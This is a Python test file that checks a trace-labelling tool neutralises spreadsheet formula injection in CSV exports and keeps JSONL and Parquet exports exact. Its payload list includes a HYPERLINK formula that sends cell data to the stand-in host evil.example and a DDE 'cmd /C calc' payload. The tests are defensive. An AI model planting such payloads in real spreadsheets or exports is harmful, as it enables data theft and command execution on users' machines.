"""Spreadsheet formula injection: CSV exports neutralise formula cells; JSONL and Parquet
stay exact; a label export imports back unchanged."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from agentprop.core import Label
from agentprop.labels import export_labels, import_labels
from agentprop.store import Workspace, export_traces
from tests.hostile._helpers import invoke, labelled_workspace

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _workspace_with_answers(path: Path) -> Workspace:
    ws = labelled_workspace(path)
    from tests.judges.conftest import WEATHER, make_trace

    ws.put_traces([make_trace(f"f{i}", WEATHER, p) for i, p in enumerate(PAYLOADS)])
    return ws


def test_traces_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
    _workspace_with_answers(tmp_path / "w").close()
    out = tmp_path / "t.csv"
    result = invoke("traces", "export", "-w", str(tmp_path / "w"), "-f", "csv", "-o", str(out))
    assert result.exit_code == 0, result.output
    with open(out, newline="", encoding="utf-8") as f:
        answers = {r["id"]: r["final_answer"] for r in csv.DictReader(f)}
    for i, payload in enumerate(PAYLOADS):
        assert answers[f"f{i}"] == "'" + payload
    assert answers["tr-b"] == "Severity high."  # ordinary text is untouched


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_exports_stay_exact(tmp_path: Path, fmt: str) -> None:
    ws = _workspace_with_answers(tmp_path / "w")
    out = tmp_path / f"t.{fmt}"
    export_traces(ws, fmt, out)
    if fmt == "jsonl":
        rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        answers = {r["id"]: r["events"][-1]["answer"] for r in rows}
    else:
        import pyarrow.parquet as pq

        table = pq.read_table(out).to_pylist()
        answers = {r["id"]: r["final_answer"] for r in table}
    for i, payload in enumerate(PAYLOADS):
        assert answers[f"f{i}"] == payload


def test_label_export_neutralises_and_imports_back(tmp_path: Path) -> None:
    ws = labelled_workspace(tmp_path / "w")
    ws.put_labels([Label(trace_id="tr-a", annotator="=cmd", label="correct", note=PAYLOADS[0]),
                   Label(trace_id="tr-b", annotator="ann", label="incorrect", note=PAYLOADS[3])])
    out = tmp_path / "labels.csv"
    export_labels(ws, out)
    with open(out, newline="", encoding="utf-8") as f:
        rows = {r["trace_id"]: r for r in csv.DictReader(f)}
    assert rows["tr-a"]["annotator"] == "'=cmd" and rows["tr-a"]["note"] == "'" + PAYLOADS[0]
    assert rows["tr-b"]["note"] == "'" + PAYLOADS[3] and rows["tr-b"]["annotator"] == "ann"
    # the exported file imports into a fresh workspace as the original labels
    other = labelled_workspace(tmp_path / "w2")
    assert import_labels(out, other) == 2
    back = {(lab.trace_id, lab.annotator, lab.note) for lab in other.labels()}
    assert back == {("tr-a", "=cmd", PAYLOADS[0]), ("tr-b", "ann", PAYLOADS[3])}


def test_the_cli_label_export_is_neutralised(tmp_path: Path) -> None:
    ws = labelled_workspace(tmp_path / "w")
    ws.put_labels([Label(trace_id="tr-a", annotator="ann", label="correct", note="@SUM(A1)")])
    ws.close()
    out = tmp_path / "l.csv"
    assert invoke("label", "export", "-w", str(tmp_path / "w"), "--out", str(out)
                  ).exit_code == 0
    assert "'@SUM(A1)" in out.read_text(encoding="utf-8")


def test_report_csv_tables_neutralise_formula_names(tmp_path: Path) -> None:
    """A model or agent name is the user's text and reaches the report's CSV tables as a row
    key; one that starts like a formula is written with a leading quote. Numbers stay numbers
    (a negative effect is not a formula)."""
    from agentprop.core import Verdict
    from tests.report.test_report_build import _trace

    evil = "=HYPERLINK(\"http://evil.example\",\"x\")"
    ws = Workspace(tmp_path / "w")
    traces = [_trace(model, f"weather_{k:03d}", cond, s2=k % 2 == 0, answer=f"a{k}")
              for model in (evil, "sim/careful") for k in range(6)
              for cond in ("baseline", "p2:semantic_wrong")]
    ws.put_traces(traces)
    ws.put_verdicts([Verdict(trace_id=t.id, judge="facts", correct=i % 3 == 0)
                     for i, t in enumerate(traces)])
    ws.close()
    result = invoke("report", "-w", str(tmp_path / "w"), "--resamples", "50")
    assert result.exit_code == 0, result.output
    out = tmp_path / "w" / "report"
    cells: list[str] = []
    for table in sorted((out / "tables").glob("*.csv")):
        with open(table, newline="", encoding="utf-8") as f:
            cells += [c for row in csv.reader(f) for c in row]
    assert "'" + evil in cells
    for c in cells:
        if c.startswith(("=", "+", "@", "\t", "\r")):
            raise AssertionError(f"formula cell {c!r} in a report table")
        if c.startswith("-"):
            float(c)  # only numbers may start with a minus
